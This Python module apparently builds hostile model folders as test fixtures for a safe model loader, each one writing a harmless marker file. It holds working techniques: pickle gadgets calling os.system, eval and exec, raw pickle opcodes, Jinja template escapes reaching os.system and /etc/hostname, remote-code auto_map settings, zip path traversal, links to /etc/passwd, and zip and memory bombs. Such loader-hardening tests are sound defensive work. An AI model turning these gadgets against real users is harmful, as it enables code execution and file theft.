"""Model folders made to run something, to reach outside, to fill memory or to hang whoever takes them in.

Every gadget would write one file, the mark. A builder gets a sound copy of a tiny LLaVA and the mark's path.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import socket
import struct
import threading
import zipfile
from collections.abc import Callable, Mapping
from contextlib import suppress
from itertools import cycle
from pathlib import Path
from typing import Any

import torch

Builder = Callable[[Path, Path], object]
WEIGHTS = "model.safetensors"
PICKLE = "pytorch_model.bin"


class Gadget:
    """Calls something when it is unpickled."""

    def __init__(self, call: Callable[..., object], *arguments: object) -> None:
        self._call, self._arguments = call, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self._call, self._arguments


def pickled(make: Callable[[Path], object], *, zipped: bool = True, name: str = PICKLE) -> Builder:
    """The weights as a pickle with `make(mark)` beside a tensor."""

    def build(folder: Path, mark: Path) -> None:
        if name == PICKLE:
            (folder / WEIGHTS).unlink()
        held = {"w": torch.ones(2), "g": make(mark)}
        torch.save(held, folder / name, _use_new_zipfile_serialization=zipped)

    return build


def raw(make: Callable[[Path], bytes]) -> Builder:
    """The weights as these bytes under the name of a pickle."""

    def build(folder: Path, mark: Path) -> None:
        (folder / WEIGHTS).unlink()
        (folder / PICKLE).write_bytes(make(mark))

    return build


def zipped(make: Callable[[Path, zipfile.ZipFile], object]) -> Builder:
    """The weights as a zip that is written by hand."""

    def data(mark: Path) -> bytes:
        sink = io.BytesIO()
        with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
            make(mark, archive)
        return sink.getvalue()

    return raw(data)


def said(name: str, change: Callable[[dict[str, Any], str], object], code: str = "") -> Builder:
    """One json file changed; with a Python file beside it that writes the mark when it is imported."""

    def build(folder: Path, mark: Path) -> None:
        path = folder / name
        document = json.loads(path.read_text()) if path.exists() else {}
        change(document, str(mark))
        path.write_text(json.dumps(document))
        if code:
            (folder / code).parent.mkdir(exist_ok=True)
            (folder / code).write_text(f"open({str(mark)!r}, 'w').close()\n")

    return build


def template(text: str) -> Builder:
    """A chat template, in the tokenizer's settings; `MARK` in it is the mark's path."""

    def build(folder: Path, mark: Path) -> None:
        path = folder / "tokenizer_config.json"
        document = json.loads(path.read_text())
        (folder / "chat_template.jinja").unlink(missing_ok=True)
        path.write_text(json.dumps(document | {"chat_template": text.replace("MARK", str(mark))}))

    return build


def header(text: Callable[[Path], bytes], length: int | None = None) -> Builder:
    """A weight file that is a header alone."""

    def build(folder: Path, mark: Path) -> None:
        said_text = text(mark)
        size = len(said_text) if length is None else length
        (folder / WEIGHTS).write_bytes(struct.pack("<Q", size) + said_text)

    return build


def index(file: str) -> Builder:
    """An index that looks for a tensor in another file."""

    def build(folder: Path, mark: Path) -> None:
        document = {"metadata": {}, "weight_map": {"w": file.replace("MARK", str(mark))}}
        (folder / "model.safetensors.index.json").write_text(json.dumps(document))
        (folder / WEIGHTS).unlink()

    return build


def _instance(mark: Path) -> bytes:
    """The oldest way to call something: opcode INST."""
    return b"(S'touch " + os.fsencode(mark) + b"'\nios\nsystem\n."


def _stack_global(mark: Path) -> bytes:
    """A global whose name is put together on the stack."""
    word = lambda text: b"\x8c" + bytes([len(text)]) + text  # noqa: E731
    return (
        b"\x80\x04" + word(b"posix") + word(b"system") + b"\x93"
        + b"X" + struct.pack("<I", len(f"touch {mark}")) + f"touch {mark}".encode() + b"\x85R."
    )  # fmt: skip


def _script(folder: Path, mark: Path) -> None:
    """A TorchScript program."""

    class Program(torch.nn.Module):
        def forward(self, numbers: torch.Tensor) -> torch.Tensor:
            return numbers + 1

    (folder / WEIGHTS).unlink()
    torch.jit.save(torch.jit.script(Program()), str(folder / PICKLE))


def _nested(mark: Path) -> object:
    sink = io.BytesIO()
    torch.save({"g": Gadget(os.system, f"touch {mark}")}, sink)
    return Gadget(torch.load, io.BytesIO(sink.getvalue()))


def _socket(folder: Path, mark: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        here = os.open(folder, os.O_RDONLY)
        made.bind(f"/proc/self/fd/{here}/x.json")
        os.close(here)


def _hard_link(folder: Path, mark: Path) -> None:
    """A file of somebody else's, under a second name in this folder."""
    secret = mark.with_name("secret.json")
    secret.write_text('{"key": "of the log"}')
    os.link(secret, folder / "special_tokens_map2.json")


def _sparse(folder: Path, mark: Path) -> None:
    with (folder / WEIGHTS).open("r+b") as file:
        file.truncate(1 << 40)


def _many_files(folder: Path, mark: Path) -> None:
    for number in range(10_001):
        (folder / f"{number}.txt").touch()


def _zip_bomb(folder: Path, mark: Path) -> None:
    """A sound checkpoint of a quarter of a gigabyte of zeros, packed into a few hundred kilobytes."""
    sink = io.BytesIO()
    torch.save({"w": torch.zeros(64 << 20)}, sink)
    (folder / WEIGHTS).unlink()
    with (
        zipfile.ZipFile(sink) as sound,
        zipfile.ZipFile(folder / PICKLE, "w", zipfile.ZIP_DEFLATED) as packed,
    ):
        for name in sound.namelist():
            packed.writestr(name, sound.read(name))


def _restless(folder: Path, mark: Path) -> None:
    """A weight file whose last bytes never rest; its writer ends with the folder."""

    def rewrite() -> None:
        with suppress(OSError):
            for value in cycle(range(256)):
                with (folder / WEIGHTS).open("r+b") as file:
                    file.seek(-8, os.SEEK_END)
                    file.write(bytes([0, 0, value, 61]) * 2)

    threading.Thread(target=rewrite, daemon=True).start()


def _zip_escape(mark: Path, archive: zipfile.ZipFile) -> None:
    archive.writestr("archive/data.pkl", pickle.dumps({"w": 1}))
    archive.writestr(f"../../../../../..{mark}", b"out")


def _write(name: str, content: bytes | str) -> Builder:
    data = content.encode() if isinstance(content, str) else content
    return lambda folder, mark: (folder / name).write_bytes(data.replace(b"MARK", os.fsencode(mark)))


_IMPORT = "import os; os.system('touch MARK')"
_ESCAPE = "__import__('os').system('touch MARK')"
_LOOPS = "{% for a in range(9999) %}" * 3 + "{% set x = a %}" + "{% endfor %}" * 3

BUNDLES: Mapping[str, Builder] = {
    # pickles that call
    "os.system": pickled(lambda mark: Gadget(os.system, f"touch {mark}")),
    "os.system, unzipped": pickled(lambda mark: Gadget(os.system, f"touch {mark}"), zipped=False),
    "eval": pickled(lambda mark: Gadget(eval, f"open({str(mark)!r}, 'w')")),
    "exec": pickled(lambda mark: Gadget(exec, f"open({str(mark)!r}, 'w')")),
    "open": pickled(lambda mark: Gadget(open, str(mark), "w")),
    "shutil.copy": pickled(lambda mark: Gadget(shutil.copy, "/etc/hostname", str(mark))),
    "Path.touch": pickled(lambda mark: Gadget(Path.touch, Gadget(Path, str(mark)))),
    "getattr": pickled(lambda mark: Gadget(getattr, Gadget(__import__, "os"), "system")),
    "torch.load inside": pickled(_nested),
    "torch.hub": pickled(lambda mark: Gadget(torch.hub.load, "someone/code", "model")),
    "a class of ours": pickled(lambda mark: Gadget(Gadget, os.system, f"touch {mark}")),
    "a whole network": pickled(lambda mark: torch.nn.Linear(2, 2)),
    "INST": raw(_instance),
    "STACK_GLOBAL": raw(_stack_global),
    "TorchScript": _script,
    "trainer's arguments": pickled(lambda mark: Gadget(os.system, f"touch {mark}"), name="training_args.bin"),
    "a checkpoint": pickled(lambda mark: Gadget(os.system, f"touch {mark}"), name="last.ckpt"),
    "an adapter's pickle": pickled(lambda mark: Gadget(os.system, f"touch {mark}"), name="adapter_model.bin"),
    # pickles that fill or break
    "bomb in a zip": _zip_bomb,
    "names out of a zip": zipped(_zip_escape),
    "truncated zip": raw(lambda mark: b"PK\x03\x04" + bytes(40)),
    "deep pickle": raw(lambda mark: b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."),
    "a list without end": raw(lambda mark: b"\x80\x04\x95" + b"\xff" * 8 + b"."),
    # code, or the choice of code
    "auto_map": said(
        "config.json", lambda d, m: d.update(auto_map={"AutoModel": "evil.Model"}), "modeling_evil.py"
    ),
    "auto_map alone": said("config.json", lambda d, m: d.update(auto_map={"AutoModel": "someone/x--e.M"})),
    "auto_map of the tokenizer": said(
        "tokenizer_config.json", lambda d, m: d.update(auto_map={"AutoTokenizer": ["evil.T", None]})
    ),
    "auto_map of the processor": said(
        "preprocessor_config.json", lambda d, m: d.update(auto_map={"AutoProcessor": "evil.P"})
    ),
    "a tokenizer's class": said(
        "tokenizer_config.json", lambda d, m: d.update(tokenizer_class="os.system"), "tokenization_evil.py"
    ),
    "trust_remote_code": said("config.json", lambda d, m: d.update(trust_remote_code=True)),
    "kernels of a hub": said("config.json", lambda d, m: d.update(_attn_implementation="someone/kernels")),
    "kernel_config": said("config.json", lambda d, m: d.update(kernel_config={"x": "someone/k:Layer"})),
    "custom_generate": said(
        "generation_config.json", lambda d, m: d.update(custom_generate="."), "custom_generate/generate.py"
    ),
    "a Python file": _write("modeling_llava.py", _IMPORT),
    "a hidden Python file": _write(".hidden.py", _IMPORT),
    "compiled code": _write("x.pyc", b"\xa7\r\r\n" + bytes(12)),
    "a library": _write("kernel.so", b"\x7fELF"),
    "a notebook": _write("usage.ipynb", "{}"),
    # templates
    "template that imports": template("{{ joiner.__init__.__globals__.__builtins__." + _ESCAPE + " }}"),
    "template that calls os": template("{{ cycler.__init__.__globals__.os.system('touch MARK') }}"),
    "template by subclasses": template("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "template that includes": template("{% include '/etc/hostname' %}"),
    "template that loops": template(_LOOPS),
    "template that fills": template("{{ 'a' * 10 ** 13 }}"),
    # weights that are none
    "header without end": header(lambda mark: b"{}", (1 << 63) - 1),
    "header that nests": header(lambda mark: b"[" * 60_000),
    "header of words": header(lambda mark: json.dumps({"w": str(mark)}).encode()),
    "header that reaches out": header(
        lambda mark: b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[1099511627776,1099511627780]}}'
    ),
    "sparse": _sparse,
    "index to /etc": index("/etc/passwd"),
    "index upwards": index("../../../../../../etc/passwd"),
    "index to the mark": index("MARK"),
    # files that are none
    "link to a file": lambda folder, mark: (folder / "x.json").symlink_to("/etc/passwd"),
    "link to a folder": lambda folder, mark: (folder / "more").symlink_to("/etc"),
    "hard link": _hard_link,
    "a file that changes": _restless,
    "pipe": lambda folder, mark: os.mkfifo(folder / "extra.json"),
    "socket": _socket,
    "name of a terminal": _write("\x1b]0;owned\x07.json", "{}"),
    "name on two lines": _write("a\nb.json", "{}"),
    "more files than any model has": _many_files,
    "settings of 17 MiB": _write("extra.json", '"' + "x" * (17 << 20) + '"'),
    "settings that nest": _write("extra.json", "[" * 200_000),
    "settings that are none": _write("config.json", "\x00"),
}
